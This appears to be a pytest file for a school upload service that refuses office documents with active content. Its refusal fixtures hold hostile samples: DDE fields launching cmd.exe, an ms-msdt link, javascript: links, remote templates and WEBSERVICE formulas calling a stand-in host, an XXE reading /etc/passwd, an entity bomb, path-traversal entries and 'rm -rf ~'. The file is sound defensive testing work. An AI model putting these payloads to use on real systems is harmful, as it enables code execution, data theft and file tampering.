"""Office documents in which something acts, loads or hides are refused by what they hold; their neighbours are kept."""

import struct

import pytest
from tests.pieces import samples
from tests.pieces.bureau import HEAD, ODF, docx, field, odt, relation, relations, xlsx
from tests.pieces.verdicts import examined, verdict

from mesaides.pieces.contenu import balises
from mesaides.pieces.contenu.refus import (
    ABIME,
    BOMBE,
    COMMANDE,
    COMPLEXE,
    DOUBLE,
    ENTITES,
    LIAISON,
    LIEN,
    MACROS,
    OBJET,
    PROGRAMME,
    PROTEGE,
)
from mesaides.pieces.rules.types import TypePiece

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
VBA = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(500)
PE = b"MZ\x90\0" + bytes(56) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
AWAY = "https://ailleurs.example/x"
CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
PICTURE = {"word/media/image1.png": samples.photo(kind="PNG", size=(20, 20))}


def settings(*rels: str) -> dict[str, bytes]:
    return {"word/settings.xml": b"<s/>", "word/_rels/settings.xml.rels": relations(*rels)}


def chart(workbook: bytes, target: str = "../embeddings/Classeur1.xlsx") -> dict[str, bytes]:
    """A chart of Word with the workbook of its figures."""
    return {
        "word/charts/chart1.xml": f'{HEAD}<c:c xmlns:c="{CHART}"><c:f>Feuil1!$A$1:$A$4</c:f></c:c>'.encode(),
        "word/charts/_rels/chart1.xml.rels": relations(relation("package", target)),
        "word/embeddings/Classeur1.xlsx": workbook,
    }


def with_name(name: str, content: bytes = b"x") -> bytes:
    """A document with an entry of this very name, whatever `zipfile` thinks of it."""
    stand = "word/" + "Z" * max(1, len(name) - 5)
    made = docx(parts={stand: content})
    return made.replace(stand.encode(), name.ljust(len(stand), "x").encode())


REFUSED = {
    # what the relations load
    "a remote template": (docx(parts=settings(relation("attachedTemplate", AWAY, away=True))), LIAISON),
    "a template on another machine": (
        docx(parts=settings(relation("attachedTemplate", "file:///\\\\pirate\\x.dotm", away=True))),
        LIAISON,
    ),
    "a remote picture": (docx(relation("image", AWAY, away=True)), LIAISON),
    "a picture of another machine": (docx(relation("image", "\\\\pirate\\x.png", away=True)), LIAISON),
    "an external mode in other letters": (
        docx(relation("image", AWAY, away=True).replace("External", "external")),
        LIAISON,
    ),
    "a remote picture said to be inside": (docx(relation("image", AWAY)), LIAISON),
    "a remote OLE object": (docx(relation("oleObject", AWAY, away=True)), OBJET),
    "a frame": (docx(relation("frame", AWAY, away=True)), LIAISON),
    "a document within": (docx(relation("subDocument", "autre.docx", away=True)), LIAISON),
    "a relation that nobody knows": (docx(relation("nouveaute", AWAY, away=True)), LIAISON),
    "relations of the strict kind": (
        docx(relation("http://purl.oclc.org/ooxml/officeDocument/relationships/image", AWAY, away=True)),
        LIAISON,
    ),
    "relations in UTF-16": (
        docx(
            parts={
                "word/_rels/footer1.xml.rels": relations(relation("image", AWAY, away=True))
                .decode()
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            }
        ),
        LIAISON,
    ),
    "a page of the web within": (docx(relation("aFChunk", "partie.htm")), OBJET),
    "a link that runs a script": (docx(relation("hyperlink", "javascript:alert(1)", away=True)), LIEN),
    "a link that runs a tool": (docx(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", away=True)), LIEN),
    "a link that hides its scheme": (
        docx(relation("hyperlink", "java&#10;script:alert(1)", away=True)),
        LIEN,
    ),
    "a workbook linked to another": (
        xlsx(
            relation("externalLink", "externalLinks/externalLink1.xml"),
            parts={
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    relation("externalLinkPath", "Autre.xlsx", away=True)
                )
            },
        ),
        LIAISON,
    ),
    "a connection to data": (xlsx(relation("connections", "connections.xml")), LIAISON),
    "a picture of VML": (
        docx(parts={"word/header1.xml": f'<v xmlns="urn:v"><imagedata src="{AWAY}"/></v>'.encode()}),
        LIAISON,
    ),
    # objects, programs
    "an OLE object": (docx(relation("oleObject", "embeddings/oleObject1.bin")), OBJET),
    "the bytes of an OLE object, of any name": (docx(parts={"word/media/image1.png": OLE}), OBJET),
    "an inserted file": (
        docx(relation("package", "embeddings/a.xlsx"), parts={"word/embeddings/a.xlsx": xlsx()}),
        OBJET,
    ),
    "an archive of any name": (docx(parts={"word/media/image1.png": xlsx()}), OBJET),
    "an ActiveX control": (docx(relation("control", "boutons/b.xml")), OBJET),
    "the type of an ActiveX control": (
        docx(
            types='<Override PartName="/word/b.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
            parts={"word/b.xml": b"<b/>"},
        ),
        OBJET,
    ),
    "an application of Office": (
        docx(relation("http://schemas.microsoft.com/office/2011/relationships/webextension", "w.xml")),
        OBJET,
    ),
    "a program": (docx(parts={"word/media/image1.png": PE}), PROGRAMME),
    "a program of Linux": (docx(parts={"word/media/image1.png": b"\x7fELF\x02\x01\x01" + bytes(90)}), PROGRAMME),
    "a script": (docx(parts={"word/media/a": b"#!/bin/sh\nrm -rf ~\n"}), PROGRAMME),
    "a script told by its name only": (docx(parts={"word/media/a.vbs": b'MsgBox "a"'}), PROGRAMME),
    "a shortcut": (docx(parts={"word/media/a.png": b"L\0\0\0\x01\x14\x02\0" + bytes(90)}), PROGRAMME),
    "an RTF": (docx(parts={"word/media/a.png": b"{\\rtf1\\object}"}), OBJET),
    "a PDF that is no picture": (docx(parts={"word/a.bin": samples.pdf()}), OBJET),
    "a picture that is an active PDF": (
        docx(parts={"word/media/image1.pdf": samples.pdf(javascript=True)}),
        "actions automatiques",
    ),
    # macros
    "macros under another name": (docx(parts={"word/media/image1.png": VBA}), MACROS),
    "macros by their relation": (docx(relation(f"{MICROSOFT}/vbaProject", "media/image1.png")), MACROS),
    "macros by their type": (
        docx(
            types='<Override PartName="/word/media/a" ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/media/a": b"x"},
        ),
        MACROS,
    ),
    "a sheet of macros of old": (
        xlsx(relation(f"{MICROSOFT}/xlMacrosheet", "worksheets/sheet2.xml")),
        MACROS,
    ),
    "a name that runs a macro of old": (
        xlsx(names='<definedName name="_xlnm.Auto_Open">Feuil1!$A$1</definedName>'),
        MACROS,
    ),
    "a button that needs macros": (docx(relation(f"{MICROSOFT}/ui/extensibility", "ui.xml")), MACROS),
    # commands
    "a DDE field": (docx(body=field(r'DDEAUTO c:\\cmd.exe "/k calc"')), COMMANDE),
    "a DDE field in pieces": (docx(body=field("D", "DEAU", 'TO cmd "/k calc"')), COMMANDE),
    "a DDE field within another": (docx(body=field("IF 1 = 1 ", field('DDE cmd "a"'))), COMMANDE),
    "a field whose name is computed": (docx(body=field(field("QUOTE 68 68 69"), ' cmd "a"')), COMMANDE),
    "a field whose name is half computed": (docx(body=field("DD", field("QUOTE 69"), ' cmd "a"')), COMMANDE),
    "a simple DDE field": (docx(body='<w:fldSimple w:instr=" DDE cmd a "/>'), COMMANDE),
    "a remote text": (docx(body=field(f'INCLUDETEXT "{AWAY}"')), LIAISON),
    "a remote picture of a field": (docx(body=field(f'INCLUDEPICTURE "{AWAY}" \\d')), LIAISON),
    "a DDE link": (
        xlsx(parts={"xl/externalLinks/e.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        COMMANDE,
    ),
    "a DDE formula": (xlsx(cells="<c><f>cmd|'/c calc'!A0</f></c>"), COMMANDE),
    "a formula that reads the web": (xlsx(cells=f'<c><f>_xlfn.WEBSERVICE("{AWAY}"&amp;A1)</f></c>'), LIAISON),
    "a formula that shows a remote picture": (xlsx(cells=f'<c><f>_xlfn.IMAGE("{AWAY}")</f></c>'), LIAISON),
    "a formula that runs": (xlsx(names='<definedName name="a">CALL("k","Run","JC","calc")</definedName>'), COMMANDE),
    # XML
    "a bomb of entities": (docx(parts={"word/footnotes.xml": LAUGHS}), ENTITES),
    "an entity of elsewhere": (
        docx(parts={"customXml/item1.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        ENTITES,
    ),
    "a definition of elsewhere": (
        docx(parts={"word/a.xml": b'<!DOCTYPE a SYSTEM "http://ailleurs.example/a.dtd"><a/>'}),
        ENTITES,
    ),
    "a definition in UTF-16": (docx(parts={"word/a.xml": LAUGHS.decode().encode("utf-16")}), ENTITES),
    "XML without end": (docx(parts={"word/a.xml": b"<a>" * 20}), ABIME),
    "XML that is not": (docx(parts={"word/a.xml": b"a" * 20}), ABIME),
    "XML too deep": (docx(parts={"word/a.xml": b"<a>" * 600 + b"</a>" * 600}), COMPLEXE),
    # the archive itself
    "an entry above its folder": (docx(parts={"word/../../../.bashrc": b"x"}), DOUBLE),
    "an entry at the root": (docx(parts={"/etc/cron.d/a": b"x"}), DOUBLE),
    "an entry on a disk": (docx(parts={"C:/Windows/a": b"x"}), DOUBLE),
    "an entry above its folder, as Windows writes it": (with_name("word\\..\\..\\a"), DOUBLE),
    "an entry whose name ends twice": (with_name("word/media/a.png\0.txt"), DOUBLE),
    "two entries of one name": (docx(parts={"Word/Document.xml": b"<w/>"}), DOUBLE),
    # charts
    "a chart whose workbook has macros": (
        docx(parts=chart(xlsx(parts={"xl/media/a.png": VBA}))),
        MACROS,
    ),
    "a chart whose workbook holds another": (
        docx(parts=chart(xlsx(parts=chart(xlsx())))),
        OBJET,
    ),
    "a chart that points elsewhere": (docx(parts=chart(xlsx(), target="../embeddings/Autre.xlsx")), OBJET),
    "a chart of a remote workbook": (
        docx(parts={"word/charts/_rels/c.xml.rels": relations(relation("oleObject", AWAY, away=True))}),
        OBJET,
    ),
    # LibreOffice
    "a macro of Writer": (
        odt(scripts='<office:script script:language="ooo:Basic"/>'),
        MACROS,
    ),
    "a macro at the opening": (
        odt(scripts='<script:event-listener script:event-name="dom:load"/>'),
        MACROS,
    ),
    "a module of Basic under another name": (
        odt(parts={"Pictures/a": b'<m:module xmlns:m="http://openoffice.org/2000/script">Sub a</m:module>'}),
        MACROS,
    ),
    "macros of an object within": (odt(parts={"Object 1/Basic/Standard/a.xml": b"<a/>"}), MACROS),
    "a script of Python": (odt(parts={"Scripts/python/a.py": b"import os"}), MACROS),
    "a menu that runs a macro": (
        odt(
            parts={
                "Configurations2/menubar/m.xml": b'<m xmlns:x="http://www.w3.org/1999/xlink" '
                b'x:href="vnd.sun.star.script:Standard.A?language=Basic&amp;location=document"/>'
            }
        ),
        MACROS,
    ),
    "a link that runs a macro": (odt('<text:a xlink:href="macro:///Standard.A">a</text:a>'), LIEN),
    "an OLE object of Writer": (odt('<draw:object-ole xlink:href="./Object 1"/>', parts={"Object 1": OLE}), OBJET),
    "the bytes of an OLE object of Writer": (odt(parts={"Object 1": OLE}), OBJET),
    "a remote picture of Writer": (odt(f'<draw:image xlink:href="{AWAY}"/>'), LIAISON),
    "a picture beside the document": (odt('<draw:image xlink:href="../photo.png"/>'), LIAISON),
    "a picture on a disk": (odt('<draw:image xlink:href="/C:/photo.png"/>'), LIAISON),
    "a remote section": (odt(f'<text:section-source xlink:href="{AWAY}"/>'), LIAISON),
    "a frame of Writer": (odt(f'<draw:floating-frame xlink:href="{AWAY}"/>'), LIAISON),
    "a program of Writer": (odt('<draw:applet draw:code="a"/>'), OBJET),
    "a remote template of Writer": (odt(meta=f'<meta:template xlink:href="{AWAY}"/>'), LIAISON),
    "a document that reloads itself": (odt(meta=f'<meta:auto-reload xlink:href="{AWAY}"/>'), LIAISON),
    "a form that sends": (odt(f'<form:form xlink:href="{AWAY}"/>'), LIAISON),
    "a DDE link of Writer": (odt('<text:dde-connection-decl office:dde-application="soffice"/>'), COMMANDE),
    "a DDE formula of Calc": (
        odt('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>', kind="spreadsheet"),
        COMMANDE,
    ),
    "a formula of Calc that reads another file": (
        odt("<table:table-cell table:formula=\"of:='file:///C:/a.ods'#$Feuille1.A1\"/>", kind="spreadsheet"),
        LIAISON,
    ),
    "an encrypted text of today": (
        samples.archive(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<manifest:encryption-data/>",
                "encrypted-package": b"x",
            }
        ),
        PROTEGE,
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_acts_in_an_office_document_is_refused_in_words_that_say_why(what):
    content, phrase = REFUSED[what]
    assert phrase in verdict(content)


LINK = "file:///C:\\Users\\claire\\Mod%C3%A8les\\Lettre.dotx"
KEPT = {
    "the template of a disk": docx(parts=settings(relation("attachedTemplate", LINK, away=True))),
    "links": docx(
        relation("hyperlink", "https://www.onisep.fr/?a=1&amp;b=2", away=True, number=3),
        relation("hyperlink", "mailto:claire@lycee.example", away=True, number=4),
        relation("hyperlink", "../Annexes/Devis.pdf", away=True, number=5),
        relation("hyperlink", "C:\\Documents\\a.docx", away=True, number=6),
        relation("hyperlink", "#_Toc1", number=7),
    ),
    "pictures": docx(relation("image", "media/image1.png"), parts=PICTURE),
    "a picture that could not be pasted": docx(relation("image", "NULL", away=True)),
    "a picture left by a mail": docx(relation("image", "cid:image001.png@01D9", away=True)),
    "a picture of a Mac": docx(parts={"word/media/image1.pdf": samples.pdf()}),
    "fields": docx(
        body=field("PAGE")
        + field(' TOC \\o "1-3" \\h ')
        + field('HYPERLINK "https://www.onisep.fr"')
        + field("IF ", field("MERGEFIELD Ville"), ' = "Toulouse" "a" "b"')
        + field("= ", field("NUMPAGES"), " - 1")
        + '<w:fldSimple w:instr=" DATE \\@ dd/MM/yyyy "/>'
    ),
    "words that look like commands": docx(
        body="<w:p><w:r><w:t>DDEAUTO WEBSERVICE( macro: vnd.sun.star.script:a</w:t></w:r></w:p>"
    ),
    "a chart with its figures": docx(parts=chart(xlsx())),
    "a chart in a text of which paths begin at the root": docx(
        parts=chart(xlsx(), target="/word/embeddings/Classeur1.xlsx")
    ),
    "a drawing": docx(
        parts={
            "word/media/image1.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
        }
    ),
    "types of parts that are not there": docx(
        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    ),
    "formulas": xlsx(
        cells='<c><f>SUM(A1:A4)*IF(B1="a|b",1,0)</f></c><c><f>HYPERLINK("https://www.onisep.fr","ici")</f></c>'
        "<c><f>'Année 2026|2027'!A1</f></c><c><f>VLOOKUP(A1,Image!A:B,2)</f></c>",
        names='<definedName name="_xlnm.Print_Area">Feuil1!$A$1:$C$9</definedName>',
    ),
    "comments of old Excel": xlsx(
        parts={"xl/drawings/vmlDrawing1.vml": b'<xml xmlns:v="urn:v"><v:shape>a<br>b</v:shape></xml>'}
    ),
    "a text of LibreOffice": odt(
        '<text:p><text:a xlink:href="https://www.onisep.fr/">a</text:a><draw:image xlink:href="Pictures/1.png"/>'
        '<draw:object xlink:href="./Object 1"/><form:form xlink:href=""/></text:p>'
        '<text:a xlink:href="../Devis.pdf">b</text:a><text:a xlink:href="#Titre">c</text:a>',
        meta='<meta:template xlink:href="../../Mod%C3%A8les/Lettre.ott"/><meta:auto-reload xlink:href=""/>',
        parts={
            "Pictures/1.png": samples.photo(kind="PNG", size=(20, 20)),
            "Pictures/2.pdf": samples.pdf(),
            "Object 1/content.xml": f'<c:chart xmlns:c="{ODF}:chart:1.0" xmlns:x="http://www.w3.org/1999/xlink" '
            'x:href=".."/>'.encode(),
            "ObjectReplacements/Object 1": b"VCLMTF\x01\0" + bytes(90),
        },
    ),
    "a text of OpenOffice of 2007": odt(
        parts={
            "META-INF/manifest.xml": b'<?xml version="1.0"?><!DOCTYPE manifest:manifest PUBLIC '
            b'"-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
            b'<manifest:manifest xmlns:manifest="http://openoffice.org/2001/manifest"/>'
        }
    ),
    "a sheet of Calc": odt(
        '<table:table-cell table:formula="of:=SUM([.A1:.A4])+IF([.B1]&gt;0;1;0)"/>', kind="spreadsheet"
    ),
}


@pytest.mark.parametrize("what", KEPT)
def test_the_office_documents_of_a_lycee_are_kept(what):
    assert examined(KEPT[what]).type in (TypePiece.DOCX, TypePiece.XLSX, TypePiece.ODT, TypePiece.ODS)


def test_a_part_of_too_many_elements_is_refused_before_it_tires_anybody(monkeypatch):
    monkeypatch.setattr(balises, "MOST_ELEMENTS", 1000)
    assert verdict(docx(parts={"word/a.xml": b"<a>" + b"<b/>" * 1000 + b"</a>"})) == COMPLEXE


def test_a_bomb_within_the_workbook_of_a_chart_is_still_one():
    assert verdict(docx(parts=chart(xlsx(parts={"xl/a.xml": bytes(40_000_000)})))) == BOMBE
